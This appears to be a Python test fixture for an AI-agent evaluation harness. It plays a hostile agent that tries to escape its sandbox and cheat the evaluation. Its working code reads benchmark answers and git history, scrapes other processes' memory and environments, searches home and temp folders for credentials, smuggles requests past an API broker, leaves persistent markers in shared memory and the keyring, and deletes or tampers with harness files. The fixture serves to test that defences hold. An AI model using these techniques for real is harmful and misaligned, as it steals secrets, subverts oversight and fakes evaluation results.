"""A hostile agent. What it does depends on the case that it is asked for; the file beside it says where.

This file is a program and is run by path, in a box and without walls. It steals by the tricks of the thief of
the proof, whose program lies beside it. What it prints about itself counts for nothing.
"""

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from importlib import import_module
from itertools import chain
from typing import TYPE_CHECKING, Any

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
if TYPE_CHECKING:
    from codegenie.eval.boxes import thief_program as thief
    from tests.hostile.attackers import agent_burdens
else:
    agent_burdens, thief = map(import_module, ("agent_burdens", "thief_program"))

_MIB = 1 << 20
_LIBC = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine, (-1, -1))
_USER_KEYRING, _KEY_SET_PERMISSIONS, _KEY_SEARCH, _KEY_READ = -4, 5, 10, 11
_URL = os.environ.get("MODEL_URL", "")
Clues = dict[str, Any]


def _say(parts: Iterator[bytes]) -> None:
    """Print what was found as digits: the harness takes the values that it knows out of plain text."""
    for part in parts:
        if part:
            sys.stdout.write(part.hex() + "\n")


def _tried(deed: Callable[..., object], *arguments: object) -> None:
    with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
        deed(*arguments)


# What it takes.


def reads_answers(clues: Clues) -> None:
    """Read the answers by their paths, and walk to them."""
    _say(chain(thief.read_by_path({"files": clues["answers"]}), thief.read_by_walk(clues)))


def reads_git_history(clues: Clues) -> None:
    """Read the files of the repository, and ask git for the commits."""
    _say(thief.read_by_path({"files": clues["history"]}))
    for command in (["log", "-p", "--all"], ["show", "HEAD"]):
        argv = ["git", "-c", "safe.directory=*", "-C", clues["repository"], *command]
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            _say(iter([subprocess.run(argv, capture_output=True, check=False, timeout=20).stdout]))


def reads_shipped_bench(clues: Clues) -> None:
    """Read the answers that come with the harness."""
    _say(thief.read_by_path({"files": clues["shipped"]}))


def steals_environment(clues: Clues) -> None:
    """Look into every process, at what it inherited, and into the memory of a process that it knows."""
    _say(chain(thief.look_into_processes(clues), thief.look_at_itself(clues)))
    number = clues["victim"]
    _say(iter([thief._read(f"/proc/{number}/cmdline"), _memory_of(number, *clues["memory"])]))  # noqa: SLF001 - a tool of the thief
    for name in ("mem", "cwd/canary.txt", "root" + clues["beside_the_victim"]):
        with contextlib.suppress(OSError), open(f"/proc/{number}/{name}", "rb") as file:
            file.seek(clues["memory"][0] if name == "mem" else 0)
            _say(iter([file.read(clues["memory"][1])]))


def _memory_of(number: int, address: int, size: int) -> bytes:
    class Piece(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    buffer = ctypes.create_string_buffer(size)
    here, there = Piece(ctypes.addressof(buffer), size), Piece(address, size)
    read = _LIBC.process_vm_readv(number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buffer.raw if read == size else b""


def steals_credential(clues: Clues) -> None:
    """Look for the key wherever a program of the box could have left it."""
    _say(chain(thief.look_at_itself(clues), thief.look_into_processes(clues)))
    for top in (os.environ["HOME"], os.environ["TMPDIR"], "/agent", "."):
        for directory, _, names in os.walk(top):
            _say(thief.read_by_path({"files": [os.path.join(directory, name) for name in names]}))


# Whom it calls.


def calls_out(clues: Clues) -> None:
    """Send a word to every listener."""
    for _ in chain(thief.call_out(clues), thief.send_datagrams_from_a_pair(clues)):
        pass


def _ask(model: str, word: str, path: str = "/v1/messages", **more: object) -> None:
    asked = {"model": model, "messages": [], "metadata": {"user_id": word}, **more}
    body = json.dumps(asked).encode()
    request = urllib.request.Request(f"{_URL}{path}", body, {"Content-Type": "application/json"})  # noqa: S310 - ours
    with urllib.request.urlopen(request, timeout=60) as answer:  # noqa: S310 - likewise
        answer.read()


def _send(data: bytes) -> None:
    host, _, port = _URL.rpartition("/")[2].partition(":")
    with socket.create_connection((host, int(port)), 60) as line:
        line.sendall(data)
        line.settimeout(60)
        with contextlib.suppress(OSError):
            while line.recv(1 << 16):
                pass


def _send_large(head: bytes, body: bytes) -> None:
    """Send a body of 64 MB, most of it spaces, without ever holding it."""
    host, _, port = _URL.rpartition("/")[2].partition(":")
    with socket.create_connection((host, int(port)), 60) as line:
        line.sendall(head + b"Content-Length: %d\r\n\r\n%b" % (len(body) + 64 * _MIB, body))
        for _ in range(64):
            line.sendall(b" " * _MIB)
        line.recv(1 << 16)


def abuses_broker(_clues: Clues) -> None:
    """Ask for what the rules of the broker do not allow, and in forms that can be read in two ways."""
    good = '{"model": "m", "metadata": {"user_id": "abuse:%s"}}'
    head = b"POST %b HTTP/1.1\r\nHost: here\r\nConnection: close\r\n"
    for part, target in (("absolute", b"http://here/v1/messages"), ("traversal", b"/v1/messages/../files")):
        body = (good % part).encode()
        _tried(_send, head % target + b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
    inner = (good % "smuggled").encode()
    second = head % b"/v1/messages" + b"Content-Length: %d\r\n\r\n%b" % (len(inner), inner)
    first = b"POST /v1/messages HTTP/1.1\r\nHost: here\r\nTransfer-Encoding: chunked\r\n"
    # The one reader takes the length, and what follows for another request; the other one takes the chunks.
    _tried(_send, first + b"Content-Length: 2\r\n\r\n{}" + second)
    _tried(_ask, "m", "abuse:path", "/v1/files")
    _tried(_ask, "other", "abuse:model")
    asked: dict[str, Any] = {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}
    _tried(lambda: _ask("m", "abuse:tools", **asked))
    _tried(lambda: _ask("m", "abuse:servers", mcp_servers=[{"type": "url", "url": "https://example.com"}]))
    _tried(_send_large, head % b"/v1/messages", (good % "large").encode())


# What it leaves, and what it changes.


def leaves_word(clues: Clues) -> None:
    """Leave a word for the next case wherever that could find it."""
    for _ in thief.leave_words({**clues, "new_files": [*clues["new_files"], *_own_places()]}):
        pass
    _tried(_write_segment, clues)
    word = clues["left_word"].encode()
    queue = _LIBC.mq_open(clues["queue"].encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    if queue >= 0:
        _LIBC.mq_send(queue, word, len(word), 0)
    key = _LIBC.syscall(_ADD_KEY, b"user", clues["key"].encode(), word, len(word), _USER_KEYRING)
    if key > 0:
        _LIBC.syscall(_KEYCTL, _KEY_SET_PERMISSIONS, key, 0x3F3F0000)


def _own_places() -> list[str]:
    tops = (
        os.environ["HOME"],
        os.environ["TMPDIR"],
        ".",
        "..",
        "../..",
        os.path.dirname(os.environ["TMPDIR"]),
    )
    return [os.path.join(top, "left-word") for top in tops]


def _segment(clues: Clues) -> Any:  # noqa: ANN401 - an array of the standard library's foreign types
    _LIBC.shmat.restype = ctypes.c_void_p
    number = _LIBC.shmget(clues["segment"], 4096, 0o666)
    address = _LIBC.shmat(number, None, 0) if number >= 0 else None
    if address in {None, ctypes.c_void_p(-1).value}:
        raise OSError(ctypes.get_errno(), "there is no segment")
    return (ctypes.c_char * 64).from_address(address)


def _write_segment(clues: Clues) -> None:
    _segment(clues).value = clues["left_word"].encode()


def looks_for_word(clues: Clues) -> None:
    """Look for the word that the case before it left. It says where it was: each place has its own name."""
    word = clues["left_word"].encode()
    found = {"file": [thief._read(path) for path in (*clues["new_files"], *_own_places())]}  # noqa: SLF001 - as above
    with contextlib.suppress(OSError):
        found["segment"] = [_segment(clues).value]
    queue = _LIBC.mq_open(clues["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK)
    buffer = ctypes.create_string_buffer(1 << 16)
    if queue >= 0 and _LIBC.mq_receive(queue, buffer, len(buffer), None) > 0:
        found["queue"] = [buffer.value]
    key = _LIBC.syscall(_KEYCTL, _KEY_SEARCH, _USER_KEYRING, b"user", clues["key"].encode(), 0)
    if key > 0 and _LIBC.syscall(_KEYCTL, _KEY_READ, key, buffer, len(buffer)) > 0:
        found["keyring"] = [buffer.value]
    for name, texts in found.items():
        _say(name.encode() + b":" + word for text in texts if word in text)


def edits(clues: Clues) -> None:
    """Change what the harness relies on, and a process of the user."""
    for path in clues["edited_files"]:
        _tried(lambda path=path: list(thief.edit({**clues, "edited": path})))
        _tried(os.truncate, path, 0)
        _tried(os.unlink, path)
    number = clues["victim"]
    _tried(os.kill, number, signal.SIGUSR1)
    _tried(os.setpriority, os.PRIO_PROCESS, number, 15)
    _tried(resource.prlimit, number, resource.RLIMIT_NOFILE, (50, 50))


# What it makes of the model.


def provokes_429(_clues: Clues) -> None:
    """Fail because the provider does not want to hear more."""
    try:
        _ask("form:429", "more")
    except OSError as error:
        sys.exit(f"429: {error}")


def floods_requests(_clues: Clues) -> None:
    """Ask more often than one case may."""
    for _ in range(60):
        _tried(_ask, "m", "flood")


DEEDS: dict[str, Callable[[Clues], None]] = {
    deed.__name__.replace("_", "-"): deed
    for deed in (
        reads_answers, reads_git_history, reads_shipped_bench, steals_environment, steals_credential,
        calls_out, abuses_broker, leaves_word, looks_for_word, edits, provokes_429, floods_requests,
        *agent_burdens.DEEDS,
    )
}  # fmt: skip


def main() -> None:
    """Ask the model once, as every agent does that is to be measured, and then do the deed of the case."""
    case = os.environ["CODEGENIE_CASE_ID"]
    with open(
        os.path.join(os.path.dirname(os.path.abspath(__file__)), "clues.json"), encoding="utf-8"
    ) as file:
        clues = json.load(file)
    if _URL:
        _ask("m", f"first of {case}")
    if case in clues["stated"]:
        sys.stdout.write(f'{{"type": "result", "cost": {clues["stated"][case]}}}\n')
    elif case in DEEDS:
        DEEDS[case](clues)
    else:
        with open("calc.py", encoding="utf-8") as file:
            text = file.read().replace("a - b", "a + b")
        with open("calc.py", "w", encoding="utf-8") as file:
            file.write(text)
    sys.stdout.write("came to its end\n")


if __name__ == "__main__":
    main()
